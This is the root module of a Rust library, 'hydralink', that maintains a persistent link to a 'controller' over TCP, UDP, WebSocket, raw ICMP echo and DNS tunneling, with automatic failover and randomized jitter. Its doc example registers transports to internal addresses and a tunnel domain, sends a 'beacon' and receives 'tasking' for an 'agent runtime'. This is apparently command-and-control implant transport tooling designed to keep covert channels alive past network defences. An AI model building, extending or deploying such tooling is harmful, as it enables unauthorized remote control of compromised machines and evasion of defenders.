//! Adaptive multi-transport communication layer.
//!
//! `hydralink` keeps a long-lived channel to a controller alive across
//! five interchangeable transports: TCP streams, UDP datagrams,
//! WebSocket, raw ICMP echo, and DNS-tunneled queries. A failover
//! manager tracks consecutive failures, a background detector watches
//! for timeouts and silence, and a switching policy with randomized
//! jitter moves the session to an alternate transport before the
//! channel goes completely dark.
//!
//! # Example
//!
//! ```no_run
//! use std::time::Duration;
//! use hydralink::{
//!     ManagerConfig, Switcher, SwitcherConfig, Transport, TransportConfig, TransportKind,
//! };
//!
//! # async fn run() -> hydralink::LinkResult<()> {
//! let manager = ManagerConfig::new("tcp", vec!["tcp".into(), "dns".into()]);
//! let config = SwitcherConfig::new(manager)
//!     .with_jitter(Duration::from_secs(1), Duration::from_secs(10));
//!
//! let switcher = Switcher::new(config)?;
//! switcher
//!     .register(
//!         "tcp",
//!         Transport::new(TransportKind::Stream, TransportConfig::new("10.0.0.5:443")),
//!     )
//!     .await?;
//! switcher
//!     .register(
//!         "dns",
//!         Transport::new(
//!             TransportKind::NameQuery,
//!             TransportConfig::new("t.example.com@10.0.0.2:53"),
//!         ),
//!     )
//!     .await?;
//!
//! switcher.connect().await?;
//! switcher.send(b"beacon").await?;
//! let tasking = switcher.receive().await?;
//! # let _ = tasking;
//! switcher.disconnect().await?;
//! # Ok(())
//! # }
//! ```
//!
//! # Architecture
//!
//! - [`transport`]: the five channel variants behind one [`Transport`]
//!   wrapper with shared deadlines, retry, and cancellation handling.
//! - [`codec`]: the DNS chunking and ICMP echo wire formats.
//! - [`failover`]: the [`Manager`](failover::Manager) registry, the
//!   timeout/inactivity [`Detector`](failover::Detector), and the
//!   [`Switcher`] façade the agent runtime drives.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod codec;
pub mod core;
pub mod failover;
pub mod transport;

pub use self::core::{
    DetectorConfig, LinkError, LinkResult, ManagerConfig, SwitchPolicy, SwitcherConfig,
    TransportConfig, TransportKind,
};
pub use self::failover::{Switcher, SwitchTrigger, TransportHealth};
pub use self::transport::{Transport, TransportStatus};

/// Convenience re-exports for agent runtimes.
pub mod prelude {
    pub use crate::core::{
        DetectorConfig, LinkError, LinkResult, ManagerConfig, SwitchPolicy, SwitcherConfig,
        TransportConfig, TransportKind,
    };
    pub use crate::failover::{Switcher, SwitchTrigger, TransportHealth};
    pub use crate::transport::{Transport, TransportStatus};
}
